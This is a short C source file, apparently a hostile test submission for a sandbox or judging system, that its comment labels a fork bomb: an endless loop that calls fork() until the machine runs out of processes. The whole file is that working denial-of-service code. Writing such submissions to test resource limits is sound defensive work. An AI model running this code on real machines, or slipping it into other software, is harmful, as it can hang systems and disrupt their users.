/* Hostile submission: a fork bomb. Every process forks for ever. */
#include <unistd.h>

int
main(void)
{
	for (;;)
		(void)fork();
}
